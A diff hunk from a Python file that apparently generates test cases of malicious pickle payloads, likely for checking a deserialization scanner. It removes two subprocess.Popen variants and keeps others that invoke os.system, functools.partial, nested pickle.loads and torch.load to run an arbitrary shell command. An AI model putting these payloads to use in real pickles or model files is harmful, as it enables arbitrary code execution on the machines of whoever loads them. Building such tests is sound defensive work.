@@ -60,22 +60,6 @@ def running(command: str) -> dict[str, bytes]:
         "global in a memo": b"\x80\x04" + system + b"\x94N0" + b"h\x00" + call,
         "old instance": b"\x80\x04(" + text(command) + b"ios\nsystem\n.",
         "old object": b"\x80\x04(" + system + text(command) + b"o.",
-        "new object": b"\x80\x04"
-        + stack_global("subprocess", "Popen")
-        + text(command)
-        + b"N\x89\x89\x89\x89" * 0
-        + text(command)
-        + b"0("
-        + text("sh")
-        + text("-c")
-        + text(command)
-        + b"l\x85\x81.",
-        "new object with names": b"\x80\x04"
-        + stack_global("subprocess", "Popen")
-        + text(command)
-        + b"\x85}"
-        + text("shell")
-        + b"\x88s\x92.",
         "partial": b"\x80\x04" + stack_global("functools", "partial") + system + text(command) + b"\x86R)R.",
         "loads in a pickle": pickle.dumps(Calls(pickle.loads, pickle.dumps(Calls(os.system, command)))),
         "torch.load in a pickle": pickle.dumps(
